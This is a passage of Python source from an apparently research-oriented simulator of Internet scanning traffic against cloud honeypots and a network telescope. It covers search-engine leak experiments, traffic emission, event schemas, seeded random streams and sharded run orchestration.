    def _build_engines(self) -> dict[str, SearchEngine]:
        engines = {
            "censys": SearchEngine("censys", crawler_asn=398324),
            "shodan": SearchEngine("shodan", crawler_asn=10439),
        }
        experiment = self.deployment.leak_experiment
        if experiment is not None:
            self._configure_leak_blocking(engines, experiment)
        experiment_ips = set(experiment.all_ips) if experiment is not None else set()
        for engine in engines.values():
            for vantage in self.deployment.honeypots:
                in_experiment = any(int(ip) in experiment_ips for ip in vantage.ips)
                # Experiment honeypots come online (and leak) at the start
                # of the window; the rest of the fleet was indexed long ago.
                crawl_time = (
                    self.config.leak_crawl_time if in_experiment else self.config.crawl_time
                )
                engine.crawl_vantage(vantage, crawl_time, IANA_ASSIGNMENTS)
            if self.deployment.telescope is not None:
                engine.crawl_vantage(
                    self.deployment.telescope, self.config.crawl_time, IANA_ASSIGNMENTS
                )
        return engines

    def _configure_leak_blocking(
        self, engines: dict[str, SearchEngine], experiment
    ) -> None:
        """Apply the Section 4.3 blocklists.

        Control and previously-leaked IPs block both engines outright
        (previously-leaked ones additionally carry a years-old historical
        HTTP/80 index entry).  Each leaked IP blocks everything except its
        group's (engine, port) combination.
        """
        for engine in engines.values():
            engine.block(experiment.control_ips)
            engine.block(experiment.previously_leaked_ips)
        for ip in experiment.previously_leaked_ips:
            for engine in engines.values():
                engine.seed_historical(ip, 80, "http", hours_before=2 * 365 * 24)
        for group in experiment.leak_groups:
            for ip in group.ips:
                for engine_name, engine in engines.items():
                    for port in engine.crawl_ports:
                        if engine_name == group.engine and port == group.port:
                            continue
                        engine.block_service(ip, port)

    # ------------------------------------------------------------------
    # phase 3: targets
    # ------------------------------------------------------------------

    def _target_set_for(self, port: int) -> TargetSet:
        cached = self._target_sets.get(port)
        if cached is not None:
            return cached

        ips: list[np.ndarray] = []
        kinds: list[np.ndarray] = []
        regions: list[np.ndarray] = []
        continents: list[np.ndarray] = []
        networks: list[np.ndarray] = []
        vantage_of_index: list[Optional[VantagePoint]] = []

        for vantage in self.deployment.honeypots:
            if not vantage.stack.observes(port):
                continue
            count = vantage.num_ips
            ips.append(vantage.ips)
            kinds.append(np.full(count, KIND_INDEX[vantage.kind], dtype=np.int8))
            regions.append(np.full(count, vantage.region_code, dtype=object))
            continents.append(np.full(count, vantage.continent, dtype=object))
            networks.append(np.full(count, vantage.network, dtype=object))
            vantage_of_index.extend([vantage] * count)

        telescope = self.deployment.telescope
        if telescope is not None:
            count = telescope.num_ips
            ips.append(telescope.ips)
            kinds.append(np.full(count, KIND_INDEX[telescope.kind], dtype=np.int8))
            regions.append(np.full(count, telescope.region_code, dtype=object))
            continents.append(np.full(count, telescope.continent, dtype=object))
            networks.append(np.full(count, telescope.network, dtype=object))
            vantage_of_index.extend([None] * count)  # None marks telescope bulk path

        if not ips:
            raise RuntimeError(f"no vantage observes port {port}")

        targets = TargetSet(
            ips=np.concatenate(ips),
            kind_codes=np.concatenate(kinds),
            regions=np.concatenate(regions),
            continents=np.concatenate(continents),
            networks=np.concatenate(networks),
        )
        self._target_sets[port] = targets
        self._vantage_of_index[port] = vantage_of_index
        self._honeypot_counts[port] = sum(
            1 for vantage in vantage_of_index if vantage is not None
        )
        return targets

    # ------------------------------------------------------------------
    # phase 4: traffic
    # ------------------------------------------------------------------

    def run(self) -> SimulationResult:
        source_ips = self._allocate_sources()
        engines = self._build_engines()
        captures = {
            vantage.vantage_id: VantageCapture(vantage)
            for vantage in self.deployment.honeypots
        }
        telescope_capture = (
            TelescopeCapture(self.deployment.telescope)
            if self.deployment.telescope is not None
            else None
        )

        for spec in self.population:
            self._run_spec(spec, source_ips[spec.scanner_id], engines, captures, telescope_capture)

        return SimulationResult(
            config=self.config,
            deployment=self.deployment,
            registry=self.registry,
            captures=captures,
            telescope=telescope_capture,
            engines=engines,
            population=self.population,
            source_ips=source_ips,
        )

    def _run_spec(
        self,
        spec: ScannerSpec,
        sources: np.ndarray,
        engines: dict[str, SearchEngine],
        captures: dict[str, VantageCapture],
        telescope_capture: Optional[TelescopeCapture],
    ) -> None:
        for plan in spec.plans:
            rng = self.hub.fork("scan", spec.scanner_id, plan.port)
            targets = self._target_set_for(plan.port)
            weights = spec.strategy.weights(self.hub, spec.scanner_id, targets)
            weights = self._apply_search_avoidance(spec, plan, targets, weights, engines)
            weights = self._apply_honeypot_evasion(spec, plan, weights)

            expected = np.minimum(plan.rate * weights, self.config.max_sessions_per_pair)
            sessions = rng.poisson(expected)
            if sessions.sum() == 0 and spec.search_engine is None:
                continue

            vantage_of_index = self._vantage_of_index[plan.port]
            self._emit_honeypot_sessions(
                spec, plan, rng, sources, sessions, targets, vantage_of_index, captures
            )
            if telescope_capture is not None:
                self._emit_telescope_sessions(
                    spec, plan, rng, sources, sessions, vantage_of_index, telescope_capture
                )
            if spec.search_engine is not None and spec.search_engine.mode == "target":
                self._emit_search_spikes(spec, plan, rng, sources, engines, captures)

    def _apply_search_avoidance(
        self,
        spec: ScannerSpec,
        plan: PortPlan,
        targets: TargetSet,
        weights: np.ndarray,
        engines: dict[str, SearchEngine],
    ) -> np.ndarray:
        use = spec.search_engine
        if use is None or use.mode != "avoid":
            return weights
        index = engines[use.engine].index
        listed = {entry.ip for entry in index.services_on_port(plan.port)}
        if not listed:
            return weights
        weights = weights.copy()
        mask = np.fromiter((int(ip) in listed for ip in targets.ips), dtype=bool, count=len(targets))
        weights[mask] = 0.0
        return weights

    def _apply_honeypot_evasion(
        self, spec: ScannerSpec, plan: PortPlan, weights: np.ndarray
    ) -> np.ndarray:
        """Fingerprinting attackers withhold traffic from honeypots.

        The telescope cannot be fingerprinted (it never responds), so its
        slice of the index space — the tail — keeps full weight: evasive
        campaigns remain telescope-visible while vanishing from honeypot
        datasets, the bias Section 7 warns about.
        """
        evasion = spec.honeypot_evasion
        if evasion <= 0.0:
            return weights
        honeypot_count = self._honeypot_counts[plan.port]
        weights = weights.copy()
        weights[:honeypot_count] *= 1.0 - evasion
        return weights

    def _emit_honeypot_sessions(
        self,
        spec: ScannerSpec,
        plan: PortPlan,
        rng: np.random.Generator,
        sources: np.ndarray,
        sessions: np.ndarray,
        targets: TargetSet,
        vantage_of_index: list[Optional[VantagePoint]],
        captures: dict[str, VantageCapture],
    ) -> None:
        hours = float(self.config.window.hours)
        source_asns = self._source_asns(spec, sources)
        # Telescope destinations occupy the tail of the index space and are
        # handled by the aggregated bulk path; only walk honeypot indices.
        honeypot_count = self._honeypot_counts[plan.port]
        for index in np.flatnonzero(sessions[:honeypot_count]):
            vantage = vantage_of_index[index]
            count = int(sessions[index])
            dst_ip = int(targets.ips[index])
            timestamps = plan.temporal.sample_times(rng, count, hours)
            capture = captures[vantage.vantage_id]
            for timestamp in timestamps:
                source_index = int(rng.integers(len(sources)))
                intent = plan.build_intent(
                    rng,
                    float(timestamp),
                    int(sources[source_index]),
                    dst_ip,
                    dst_region=vantage.region_code,
                )
                capture.record(intent, int(source_asns[source_index]))

    def _emit_telescope_sessions(
        self,
        spec: ScannerSpec,
        plan: PortPlan,
        rng: np.random.Generator,
        sources: np.ndarray,
        sessions: np.ndarray,
        vantage_of_index: list[Optional[VantagePoint]],
        telescope_capture: TelescopeCapture,
    ) -> None:
        telescope = telescope_capture.vantage
        total = len(vantage_of_index)
        start = total - telescope.num_ips
        telescope_sessions = sessions[start:]
        total_hits = int(telescope_sessions.sum())
        if total_hits == 0:
            return
        # Split total hits across the campaign's sources.
        if len(sources) == 1:
            per_source = np.asarray([total_hits], dtype=np.int64)
        else:
            per_source = rng.multinomial(total_hits, np.full(len(sources), 1.0 / len(sources)))
        source_asns = self._source_asns(spec, sources)
        telescope_capture.record_source_hits(plan.port, sources, source_asns, per_source)
        # Distinct sources per destination: a campaign with S sources that
        # sends h packets to one dark IP exposes min(h, S) of them.
        distinct = np.minimum(telescope_sessions, len(sources)).astype(np.int64)
        telescope_capture.record_destination_sources(plan.port, distinct)

    def _emit_search_spikes(
        self,
        spec: ScannerSpec,
        plan: PortPlan,
        rng: np.random.Generator,
        sources: np.ndarray,
        engines: dict[str, SearchEngine],
        captures: dict[str, VantageCapture],
    ) -> None:
        use = spec.search_engine
        assert use is not None and use.mode == "target"
        engine = engines[use.engine]
        hours = float(self.config.window.hours)
        source_asns = self._source_asns(spec, sources)
        vantage_by_ip = self._honeypot_by_ip()

        boosted_plan = self._boost_credentials(plan, use.unique_credential_boost)
        # One discovery roll per indexed *IP*: take the entry giving this
        # campaign's port the best selection probability so that an IP
        # indexed on many ports is not multiply counted.
        best: dict[int, tuple[float, float]] = {}
        for entry in engine.index.entries():
            probability = use.selection_probability(
                entry.first_indexed, port_match=entry.port == plan.port
            )
            visible_from = max(entry.first_indexed, 0.0)
            current = best.get(entry.ip)
            if current is None or probability > current[0]:
                best[entry.ip] = (probability, visible_from)
        for ip, (probability, visible_from) in best.items():
            vantage = vantage_by_ip.get(ip)
            if vantage is None:
                continue  # telescope IPs never respond, never indexed anyway
            if rng.random() >= probability:
                continue
            discovery = visible_from + rng.exponential(12.0)
            if discovery >= hours:
                continue
            count = 1 + rng.poisson(use.spike_sessions)
            limit = min(discovery + use.spike_hours, hours)
            timestamps = rng.uniform(discovery, limit, size=count)
            capture = captures[vantage.vantage_id]
            for timestamp in timestamps:
                source_index = int(rng.integers(len(sources)))
                intent = boosted_plan.build_intent(
                    rng,
                    float(timestamp),
                    int(sources[source_index]),
                    ip,
                    dst_region=vantage.region_code,
                )
                capture.record(intent, int(source_asns[source_index]))

    # ------------------------------------------------------------------
    # helpers
    # ------------------------------------------------------------------

    def _source_asns(self, spec: ScannerSpec, sources: np.ndarray) -> np.ndarray:
        # All of a campaign's sources live in its origin AS by construction.
        return np.full(len(sources), spec.asn, dtype=np.int64)

    def _honeypot_by_ip(self) -> dict[int, VantagePoint]:
        cached = getattr(self, "_honeypot_ip_cache", None)
        if cached is None:
            cached = {
                int(ip): vantage
                for vantage in self.deployment.honeypots
                for ip in vantage.ips
            }
            self._honeypot_ip_cache = cached
        return cached

    @staticmethod
    def _boost_credentials(plan: PortPlan, boost: float) -> PortPlan:
        """Search-engine-driven sessions try ~3x more unique credentials."""
        if not plan.interactive or boost <= 1.0:
            return plan
        low, high = plan.credential_attempts
        return PortPlan(
            port=plan.port,
            protocol=plan.protocol,
            rate=plan.rate,
            transport=plan.transport,
            http_payloads=plan.http_payloads,
            http_weights=plan.http_weights,
            credential_dialect=plan.credential_dialect,
            credential_attempts=(
                max(1, int(low * boost)),
                max(1, int(high * boost)),
            ),
            distinct_credentials=True,
            banner_only_fraction=plan.banner_only_fraction,
            region_dialects=plan.region_dialects,
            temporal=plan.temporal,
        )


def run_simulation(
    deployment: Deployment,
    population: Sequence[ScannerSpec],
    config: SimulationConfig | None = None,
    registry: ASRegistry | None = None,
) -> SimulationResult:
    """Convenience wrapper: build a :class:`Simulator` and run it."""
    return Simulator(deployment, population, config, registry).run()
