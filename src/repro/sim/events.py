"""Event schema shared by the simulator, capture stacks, and analyses.

Two record types separate *what an actor tried to do* from *what a vantage
point observed*:

* :class:`ScanIntent` — a scanner's attempt against one destination:
  the wire payload it would send once a handshake completes and, for
  interactive SSH/Telnet sessions, the credential sequence it would try.
  Intents are internal to the simulator.

* :class:`CapturedEvent` — what the vantage point's capture stack actually
  recorded.  This is the only thing the analysis pipeline ever sees, which
  enforces the paper's epistemic situation: a telescope event has no
  payload, a Honeytrap event has one payload and no credentials, a Cowrie
  event has credentials.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Iterator

import numpy as np

from repro.net.packets import Transport

__all__ = ["NetworkKind", "ScanIntent", "CapturedEvent", "Credential", "IntentBatch"]


class NetworkKind(str, enum.Enum):
    """The three network types the paper contrasts."""

    CLOUD = "cloud"
    EDU = "edu"
    TELESCOPE = "telescope"

    def __str__(self) -> str:  # pragma: no cover - cosmetic
        return self.value


@dataclass(frozen=True, slots=True)
class Credential:
    """One username/password attempt in an interactive login session."""

    username: str
    password: str

    def as_tuple(self) -> tuple[str, str]:
        return (self.username, self.password)


@dataclass(frozen=True, slots=True)
class ScanIntent:
    """One connection attempt by one scanner toward one destination.

    ``protocol`` names the application protocol the scanner intends to
    speak (which need not match the IANA assignment of ``dst_port`` —
    Section 6 of the paper).  ``payload`` is the first application-layer
    message; ``credentials`` is the login sequence for interactive
    protocols.  Either may be empty (a bare SYN scan has both empty).
    """

    timestamp: float
    src_ip: int
    dst_ip: int
    dst_port: int
    transport: Transport = Transport.TCP
    protocol: str = ""
    payload: bytes = b""
    credentials: tuple[Credential, ...] = ()
    #: Shell commands the actor would run after a successful login
    #: (recorded only by interactive honeypots that accept the login).
    commands: tuple[str, ...] = ()

    def __post_init__(self) -> None:
        if self.timestamp < 0:
            raise ValueError("timestamp must be non-negative")
        if not 0 <= self.dst_port <= 65535:
            raise ValueError(f"invalid dst_port {self.dst_port}")


@dataclass(frozen=True)
class IntentBatch:
    """A columnar block of scan intents sharing one (campaign, port) plan.

    This is the batch-first counterpart of :class:`ScanIntent`:
    ``dst_port``, ``transport``, and ``protocol`` are constant across the
    batch (they come from one :class:`~repro.scanners.base.PortPlan`);
    everything per-session lives in parallel arrays.  ``credentials``
    holds tuples of plain ``(username, password)`` pairs — the wire-level
    representation capture stacks record — and :meth:`intents` wraps them
    back into :class:`Credential` objects when materializing rows for the
    scalar capture path.
    """

    dst_port: int
    transport: Transport
    protocol: str
    timestamps: np.ndarray  # float64, hours into the window
    src_ips: np.ndarray  # int64
    dst_ips: np.ndarray  # int64
    payloads: np.ndarray  # object: bytes
    credentials: np.ndarray  # object: tuple[tuple[str, str], ...]
    commands: np.ndarray  # object: tuple[str, ...]

    def __len__(self) -> int:
        return len(self.timestamps)

    def slice(self, start: int, stop: int) -> "IntentBatch":
        """A contiguous zero-copy sub-batch (views, not copies)."""
        return IntentBatch(
            dst_port=self.dst_port,
            transport=self.transport,
            protocol=self.protocol,
            timestamps=self.timestamps[start:stop],
            src_ips=self.src_ips[start:stop],
            dst_ips=self.dst_ips[start:stop],
            payloads=self.payloads[start:stop],
            credentials=self.credentials[start:stop],
            commands=self.commands[start:stop],
        )

    def take(self, indices: np.ndarray) -> "IntentBatch":
        """A sub-batch selected by an index array."""
        return IntentBatch(
            dst_port=self.dst_port,
            transport=self.transport,
            protocol=self.protocol,
            timestamps=self.timestamps[indices],
            src_ips=self.src_ips[indices],
            dst_ips=self.dst_ips[indices],
            payloads=self.payloads[indices],
            credentials=self.credentials[indices],
            commands=self.commands[indices],
        )

    def intents(self) -> Iterator[ScanIntent]:
        """Materialize row-level intents (the scalar emission fallback)."""
        for index in range(len(self.timestamps)):
            pairs = self.credentials[index]
            yield ScanIntent(
                timestamp=float(self.timestamps[index]),
                src_ip=int(self.src_ips[index]),
                dst_ip=int(self.dst_ips[index]),
                dst_port=self.dst_port,
                transport=self.transport,
                protocol=self.protocol,
                payload=self.payloads[index],
                credentials=tuple(Credential(*pair) for pair in pairs),
                commands=self.commands[index],
            )


@dataclass(frozen=True, slots=True)
class CapturedEvent:
    """A vantage point's record of one observed connection attempt.

    The fields mirror what the paper's apparatus can actually know:
    ``src_asn`` comes from an IP→AS lookup (Section 3.3 identifies actors
    by AS), ``handshake`` says whether the L4 handshake completed, and the
    application-layer fields are empty whenever the capture method cannot
    observe them.
    """

    vantage_id: str
    network: str
    network_kind: NetworkKind
    region: str
    timestamp: float
    src_ip: int
    src_asn: int
    dst_ip: int
    dst_port: int
    transport: Transport = Transport.TCP
    handshake: bool = False
    payload: bytes = b""
    credentials: tuple[tuple[str, str], ...] = ()
    #: Post-login shell commands (Cowrie-style command capture); empty
    #: unless the capture stack emulated a successful login.
    commands: tuple[str, ...] = ()

    @property
    def has_payload(self) -> bool:
        return bool(self.payload)

    @property
    def attempted_login(self) -> bool:
        """True when the session attempted at least one credential pair."""
        return bool(self.credentials)

    @property
    def logged_in(self) -> bool:
        """True when the honeypot accepted a login (commands observable)."""
        return bool(self.commands)
