"""Deterministic random-stream management.

Every stochastic component of the simulator (each scanner, each crawler,
each experiment) draws from its own independently-seeded stream, forked
from a single root seed.  This makes simulations exactly reproducible and
— crucially for the paper's statistics — makes two vantage points differ
only because of genuine sampling, never because of stream entanglement.
"""

from __future__ import annotations

import hashlib

import numpy as np

__all__ = ["RngHub", "analysis_rng", "stable_hash64"]


def stable_hash64(*parts: object) -> int:
    """A process-stable 64-bit hash of the string forms of ``parts``.

    Python's builtin ``hash`` is salted per-process, so it cannot seed
    reproducible streams; we use BLAKE2b instead.
    """
    digest = hashlib.blake2b(
        "\x1f".join(str(part) for part in parts).encode("utf-8"), digest_size=8
    ).digest()
    return int.from_bytes(digest, "big")


class RngHub:
    """Fork independent :class:`numpy.random.Generator` streams by name.

    >>> hub = RngHub(seed=7)
    >>> a = hub.fork("scanner", 1).integers(0, 100, 3)
    >>> b = RngHub(seed=7).fork("scanner", 1).integers(0, 100, 3)
    >>> (a == b).all()
    np.True_
    """

    def __init__(self, seed: int) -> None:
        if seed < 0:
            raise ValueError("seed must be non-negative")
        self._seed = int(seed)

    @property
    def seed(self) -> int:
        return self._seed

    def fork(self, *tag: object) -> np.random.Generator:
        """Return a generator unique to ``tag`` (and this hub's seed)."""
        sequence = np.random.SeedSequence([self._seed, stable_hash64(*tag)])
        return np.random.default_rng(sequence)

    def subhub(self, *tag: object) -> "RngHub":
        """A child hub whose streams are disjoint from this hub's."""
        return RngHub(stable_hash64(self._seed, "subhub", *tag) % (1 << 63))

    def coverage_mask(self, tag: object, values: np.ndarray, fraction: float) -> np.ndarray:
        """Deterministic per-value Bernoulli(fraction) membership mask.

        Used for Internet-wide scan subsampling: whether a given scanner's
        campaign covers a given destination IP must be a *fixed property*
        of the (scanner, IP) pair — the same IP stays covered or skipped
        for the whole window — rather than re-rolled per event.
        """
        if not 0.0 <= fraction <= 1.0:
            raise ValueError("fraction must be in [0, 1]")
        if fraction == 1.0:
            return np.ones(len(values), dtype=bool)
        if fraction == 0.0:
            return np.zeros(len(values), dtype=bool)
        salt = np.uint64(stable_hash64(self._seed, "coverage", tag))
        # splitmix64-style avalanche; the salt is XORed in *before* the
        # multiplies so different tags decorrelate (an additive salt after
        # the last multiply would only shift every hash by a constant).
        hashed = np.asarray(values, dtype=np.uint64) ^ salt
        hashed = (hashed + np.uint64(0x9E3779B97F4A7C15)) * np.uint64(0xBF58476D1CE4E5B9)
        hashed ^= hashed >> np.uint64(31)
        hashed *= np.uint64(0x94D049BB133111EB)
        hashed ^= hashed >> np.uint64(29)
        threshold = np.uint64(int(fraction * float(2**64 - 1)))
        return hashed < threshold


#: Root seed for analysis-side randomness (bootstrap resampling and the
#: like).  Fixed and documented here — never derived from a simulation
#: seed — so analysis draws can never entangle with the simulated
#: traffic streams, and a rerun of any analysis is reproducible on its
#: own.
_ANALYSIS_SEED = 20230901


def analysis_rng(*tag: object) -> np.random.Generator:
    """A named, reproducible stream for analysis-side randomness.

    This is the sanctioned replacement for ad-hoc
    ``np.random.default_rng(<constant>)`` seeds in analysis code (the
    lint rule RNG003 bans those): callers name their stream and get a
    generator forked from the fixed analysis seed, disjoint from every
    other named stream.

    >>> a = analysis_rng("bootstrap").integers(0, 100, 3)
    >>> b = analysis_rng("bootstrap").integers(0, 100, 3)
    >>> (a == b).all()
    np.True_
    """
    return RngHub(_ANALYSIS_SEED).fork("analysis", *tag)
