"""Observation windows.

All of the paper's cross-vantage comparisons use one-week collection
windows ("the first week of July" of 2020, 2021, or 2022).  Timestamps in
the simulator are fractional *hours since window start*, because the
search-engine experiment (Table 3) reasons about traffic volume per hour.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

__all__ = ["ObservationWindow", "WEEK_2020", "WEEK_2021", "WEEK_2022"]


@dataclass(frozen=True)
class ObservationWindow:
    """A contiguous measurement window.

    ``year`` selects the scanner-population variant (Appendix C temporal
    experiments); ``days`` is the window length.
    """

    year: int
    days: int = 7
    label: str = ""

    def __post_init__(self) -> None:
        if self.days <= 0:
            raise ValueError("window must span at least one day")

    @property
    def hours(self) -> int:
        return self.days * 24

    def hour_edges(self) -> np.ndarray:
        """Bin edges for hourly volume histograms (length ``hours + 1``)."""
        return np.arange(self.hours + 1, dtype=np.float64)

    def contains(self, timestamp: float) -> bool:
        return 0.0 <= timestamp < self.hours

    def __str__(self) -> str:
        return self.label or f"July 1-{self.days} {self.year}"


WEEK_2020 = ObservationWindow(2020, label="July 1-7, 2020")
WEEK_2021 = ObservationWindow(2021, label="July 1-7, 2021")
WEEK_2022 = ObservationWindow(2022, label="July 1-7, 2022")
