"""Deterministic shard planning for orchestrated runs.

A shard is a **contiguous** slice of the population list.  Contiguity is
load-bearing: the single-process simulator appends each campaign's
events to the per-vantage tables in population order, so concatenating
contiguous shards in index order reproduces the exact single-process row
order — the property the shard-count-invariance test pins down.

Within that constraint the planner balances shards by an estimated
per-campaign cost (expected session volume), so a hot campaign does not
serialize the whole run behind one worker.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass
from typing import Sequence

from repro.experiments.context import ExperimentConfig
from repro.scanners.base import ScannerSpec

__all__ = ["ShardPlan", "plan_shards", "config_digest", "spec_cost"]


def spec_cost(spec: ScannerSpec) -> float:
    """Estimated simulation cost of one campaign.

    Session volume scales with the sum of per-port rates (each rate
    multiplies the destination weight vector) plus a constant per plan
    for the target-set/weight machinery.
    """
    return sum(plan.rate for plan in spec.plans) + 1.0 * len(spec.plans)


@dataclass(frozen=True)
class ShardPlan:
    """One shard: population slice ``[lo, hi)`` plus its plan position."""

    shard_index: int
    num_shards: int
    lo: int
    hi: int

    @property
    def spec_range(self) -> tuple[int, int]:
        return (self.lo, self.hi)

    def __len__(self) -> int:
        return self.hi - self.lo


def plan_shards(population: Sequence[ScannerSpec], num_shards: int) -> list[ShardPlan]:
    """Partition the population into ``num_shards`` contiguous shards.

    Deterministic: the same population and shard count produce the same
    plan in every process.  Balancing is greedy — each shard takes specs
    until it reaches the remaining-average cost — which keeps the
    partition contiguous while smoothing the per-shard load.  Shards may
    be empty when ``num_shards`` exceeds the population size.
    """
    if num_shards < 1:
        raise ValueError("num_shards must be >= 1")
    costs = [spec_cost(spec) for spec in population]
    total = sum(costs)
    plans: list[ShardPlan] = []
    cursor = 0
    remaining = total
    for shard_index in range(num_shards):
        shards_left = num_shards - shard_index
        # Leave at least one spec per remaining shard while any remain.
        lo = cursor
        if shards_left == 1:
            hi = len(costs)
        else:
            target = remaining / shards_left
            acquired = 0.0
            hi = lo
            max_hi = len(costs) - (shards_left - 1)
            while hi < max_hi and (hi == lo or acquired + costs[hi] / 2.0 <= target):
                acquired += costs[hi]
                hi += 1
            if lo >= len(costs):
                hi = lo  # population exhausted: empty shard
        plans.append(ShardPlan(shard_index, num_shards, lo, min(hi, len(costs))))
        cursor = plans[-1].hi
        remaining -= sum(costs[lo:plans[-1].hi])
    assert plans[-1].hi == len(costs) or not costs
    return plans


def config_digest(config: ExperimentConfig, population_size: int) -> str:
    """Content digest of everything that determines the dataset.

    Two runs with equal digests simulate the identical event stream, so
    a shard manifest carrying this digest can satisfy ``--resume`` and a
    merged dataset can key the experiment-result cache.
    """
    payload = json.dumps(
        {
            "format": "cloudwatching-run/1",
            "year": config.year,
            "scale": config.scale,
            "telescope_slash24s": config.telescope_slash24s,
            "seed": config.seed,
            "population_size": population_size,
        },
        sort_keys=True,
    )
    return hashlib.sha256(payload.encode("utf-8")).hexdigest()
