"""The sharded run orchestrator: dispatch, checkpoint/resume, merge.

``orchestrate`` turns one run configuration into the same
:class:`~repro.sim.engine.SimulationResult` a single-process
``run_simulation`` call would produce — but built from N worker
processes that each simulate a contiguous population shard and spill it
to disk (:mod:`repro.io.shards`).  The division of labor:

* **plan** — :func:`repro.runner.plan.plan_shards` on the deterministic
  population; the parent and every worker derive the same plan.
* **dispatch** — shards whose manifests verify against the run's config
  digest are skipped (the checkpoint/resume layer); the rest run on a
  process pool, each retried up to ``max_retries`` times before the run
  degrades to partial coverage instead of aborting.
* **merge** — *lazy and zero-copy*: each shard opens as a memory-mapped
  column bank (:mod:`repro.io.lazy`) and every vantage's capture becomes
  a :class:`~repro.io.lazy.ShardedEventTable` over the mapped spills in
  shard order (contiguous shards → single-process row order).  No column
  data is read at merge time; telescope aggregates are summed from npz
  counters, and the parent's deterministic phase-1/2 state (sources,
  crawled engines — computed once at plan time and shared with fork
  workers copy-on-write) completes a full experiment context.  The
  merged dataset keeps its per-shard views and the worker budget so
  map-reduce drivers (:mod:`repro.experiments.base`) can fan back out.

The merged dataset's identity is the ``dataset_digest``: the config
digest plus every completed shard's data-file hashes (and the identity
of any failed shards, since missing coverage changes the dataset).  The
experiment scheduler keys its result cache on it.
"""

from __future__ import annotations

import json
import multiprocessing
import os
import time
from concurrent.futures import FIRST_COMPLETED, ProcessPoolExecutor, wait
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Optional, Union

from repro.experiments.context import ExperimentConfig, ExperimentContext, _WINDOWS
from repro.io.shards import (
    load_shard_tables,
    merge_telescope_shard,
    read_manifest,
    shard_dir_name,
    verify_shard,
)
from repro.io.lazy import ShardedEventTable
from repro.io.table import EventTable
from repro.runner.plan import ShardPlan, config_digest, plan_shards
from repro.runner.worker import build_task, run_shard, set_fork_state

__all__ = ["OrchestratorStats", "OrchestratedRun", "orchestrate", "resolve_workers"]

#: Top-level run descriptor written into the output directory.
RUN_FILE = "run.json"


def resolve_workers(workers: Union[int, str]) -> int:
    """Resolve a worker-count request to a concrete process count.

    ``"auto"`` derives the count from the machine: one process per CPU
    minus one left for the parent (merge + dispatch), floor 1.  Anything
    else must be a positive integer and passes through unchanged.
    """
    if isinstance(workers, str):
        if workers != "auto":
            raise ValueError(f"workers must be a positive int or 'auto', not {workers!r}")
        return max(1, (os.cpu_count() or 2) - 1)
    count = int(workers)
    if count < 1:
        raise ValueError("workers must be >= 1 (or 'auto')")
    return count


@dataclass
class OrchestratorStats:
    """What one ``orchestrate`` invocation actually did."""

    num_shards: int = 0
    workers: int = 0
    skipped: int = 0
    simulated: int = 0
    retries: int = 0
    failed: int = 0
    events_total: int = 0
    plan_seconds: float = 0.0
    simulate_seconds: float = 0.0
    merge_seconds: float = 0.0
    total_seconds: float = 0.0


@dataclass
class OrchestratedRun:
    """The merged result of a (possibly partial) orchestrated run."""

    config: ExperimentConfig
    out_dir: Path
    context: ExperimentContext
    dataset_digest: str
    stats: OrchestratorStats
    manifests: dict[int, dict] = field(default_factory=dict)
    failures: dict[int, str] = field(default_factory=dict)

    @property
    def partial(self) -> bool:
        """True when some shards never completed (degraded coverage)."""
        return bool(self.failures)

    def coverage(self) -> float:
        """Fraction of planned shards present in the merged dataset."""
        if not self.stats.num_shards:
            return 1.0
        return 1.0 - len(self.failures) / self.stats.num_shards


def _fork_context():
    """Prefer fork workers (cheap on Linux); fall back to the default."""
    try:
        return multiprocessing.get_context("fork")
    except ValueError:  # pragma: no cover - non-POSIX platforms
        return multiprocessing.get_context()


def _available_cpus() -> int:
    """CPUs this process may actually run on (affinity-aware)."""
    try:
        return len(os.sched_getaffinity(0)) or 1
    except AttributeError:  # pragma: no cover - non-Linux platforms
        return os.cpu_count() or 1


def _run_pending(
    tasks: list[dict],
    workers: int,
    max_retries: int,
    say: Callable[[str], None],
) -> tuple[dict[int, dict], dict[int, str], int]:
    """Run shard tasks on a process pool with bounded per-shard retries.

    Returns (manifests by shard index, errors by shard index, retries).
    A broken pool (e.g. a worker killed outright) fails every in-flight
    future; those count as attempts and the loop rebuilds the pool for
    whatever retry budget remains.

    Submission is throttled to the machine's *available* CPUs: a pool of
    N worker processes is only fed min(N, cpus) shards at a time.  CPU
    oversubscription buys no parallelism — concurrent CPU-bound shards
    on one core just timeslice and thrash caches (measurably slower than
    running them back to back) — while the idle standby processes still
    absorb retries and give every shard a fresh address space.  On
    machines with cpus >= workers the throttle never engages.
    """
    manifests: dict[int, dict] = {}
    errors: dict[int, str] = {}
    attempts: dict[int, int] = {task["shard_index"]: 0 for task in tasks}
    retries = 0
    pending = list(tasks)
    context = _fork_context()
    inflight_cap = max(1, min(workers, _available_cpus()))
    while pending:
        round_tasks, pending = pending, []
        with ProcessPoolExecutor(
            max_workers=min(workers, len(round_tasks)), mp_context=context
        ) as pool:
            queue = list(round_tasks)
            futures: dict = {}
            while queue or futures:
                while queue and len(futures) < inflight_cap:
                    task = queue.pop(0)
                    try:
                        futures[pool.submit(run_shard, task)] = task
                    except RuntimeError:  # BrokenProcessPool / shut-down pool
                        # Unsubmitted work is not an attempt: requeue it
                        # for the rebuilt pool.  In-flight futures still
                        # resolve (as failures) below.
                        pending.append(task)
                        pending.extend(queue)
                        queue.clear()
                if not futures:
                    continue
                done, _ = wait(futures, return_when=FIRST_COMPLETED)
                for future in done:
                    task = futures.pop(future)
                    index = task["shard_index"]
                    try:
                        manifests[index] = future.result()
                    except Exception as error:  # noqa: BLE001 - retried below
                        attempts[index] += 1
                        if attempts[index] <= max_retries:
                            retries += 1
                            say(f"shard {index} failed ({error}); retrying "
                                f"({attempts[index]}/{max_retries})")
                            pending.append(task)
                        else:
                            errors[index] = str(error)
                            say(f"shard {index} failed permanently: {error}")
                    else:
                        say(f"shard {index} complete "
                            f"({manifests[index]['events']['total']:,} events)")
    return manifests, errors, retries


def orchestrate(
    config: Optional[ExperimentConfig] = None,
    workers: Union[int, str] = 2,
    out_dir: Union[str, Path] = "orchestrate-out",
    num_shards: Optional[int] = None,
    resume: bool = False,
    max_retries: int = 2,
    quiet: bool = False,
) -> OrchestratedRun:
    """Run one sharded simulation and merge it into an experiment context.

    ``workers`` is a count or ``"auto"`` (CPU-derived, see
    :func:`resolve_workers`); the chosen count and the original request
    are both recorded in ``run.json``.  ``num_shards`` defaults to the
    resolved worker count.  With ``resume``, shards whose manifests
